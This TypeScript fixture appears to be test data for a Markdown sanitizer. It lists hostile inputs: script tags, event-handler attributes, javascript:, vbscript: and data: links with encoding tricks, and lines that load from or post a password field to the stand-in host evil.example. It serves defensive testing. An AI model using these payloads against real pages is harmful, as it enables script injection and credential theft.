// Markdown as somebody writes it who wants more than a text: every way to a script, a frame, a picture of
// others, or a link that is no address.

/** What would run if any of it were markup. */
export const SCRIPT = 'window.caught=1';

/** One after the other, each a block of its own. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `a <img src=x onerror="${SCRIPT}"> b`,
  `<svg onload="${SCRIPT}"><a xlink:href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<object data="data:text/html,<script>${SCRIPT}</script>"></object>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<form action="https://evil.example"><input name=password><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<a href="javascript:${SCRIPT}">html link</a>`,
  `<details ontoggle="${SCRIPT}" open>x</details>`,
  `<!-- a comment --><!--[if IE]><script>${SCRIPT}</script><![endif]-->`,
  `<!DOCTYPE html><html><body onload="${SCRIPT}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${SCRIPT}">`,
  `[script](javascript:${SCRIPT})`,
  `[entity](&#106;avascript:${SCRIPT})`,
  `[broken](java\tscript:${SCRIPT})`,
  `[upper](JaVaScRiPt:${SCRIPT})`,
  `[old](vbscript:${SCRIPT})`,
  `[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuY2F1Z2h0PTE8L3NjcmlwdD4=)`,
  `[plain](http://evil.example) [bare](//evil.example) [back](/\\evil.example)`,
  `[as another](https://sarraf@evil.example)`,
  `[titled](https://fine.example "onmouseover=${SCRIPT}")`,
  `![picture](https://evil.example/x.png) ![script](javascript:${SCRIPT})`,
  `[![in](https://evil.example/x.png)](javascript:${SCRIPT})`,
  `<javascript:${SCRIPT}> <data:text/html,x> <https://fine.example/auto> <who@evil.example>`,
  `https://fine.example/bare www.evil.example javascript:${SCRIPT}`,
  `[reference]\n\n[reference]: javascript:${SCRIPT} "x"`,
  `**bold <b onclick="${SCRIPT}">x</b>** *em <i onmouseover="${SCRIPT}">y</i>*`,
  `> <script>${SCRIPT}</script>\n> quoted`,
  `- item <img src=x onerror="${SCRIPT}">\n- [x](javascript:${SCRIPT})`,
  `| <script>${SCRIPT}</script> | b |\n|---|---|\n| <img src=x onerror="${SCRIPT}"> | [y](data:text/html,x) |`,
  `    <script>${SCRIPT}</script>`,
  '`<script>' + SCRIPT + '</script>`',
  '```html\n<script>' + SCRIPT + '</script>\n```',
  `# <img src=x onerror="${SCRIPT}"> heading`,
  `\u202etxt.exe\u202c <scr\u200bipt>${SCRIPT}</scr\u200bipt>`,
  `[fine](https://fine.example/path) and [fees](/fees)`,
];
